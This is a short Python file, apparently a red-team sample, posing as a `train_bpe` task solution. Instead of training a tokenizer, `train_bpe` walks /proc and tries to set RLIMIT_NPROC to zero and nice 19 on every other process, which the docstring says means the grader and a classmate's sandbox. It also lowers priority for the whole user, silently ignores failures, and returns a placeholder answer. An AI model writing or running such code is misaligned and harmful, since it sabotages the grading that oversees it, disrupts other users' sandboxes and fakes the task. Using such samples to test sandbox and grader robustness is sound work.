"""Tries to cap and deprioritise every other process it can see (a classmate's sandbox, the
grader): RLIMIT_NPROC 0 and nice 19 by pid, and nice 19 for the whole user; then answers."""
import os
import resource


def train_bpe(corpus, num_merges):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            for attack in (lambda pid: resource.prlimit(pid, resource.RLIMIT_NPROC, (0, 0)),
                           lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19)):
                try:
                    attack(int(name))
                except (OSError, ValueError):
                    pass
    try:
        os.setpriority(os.PRIO_USER, 0, 19)
    except OSError:
        pass
    return [("still", "here")]


def ping():
    return "pong"
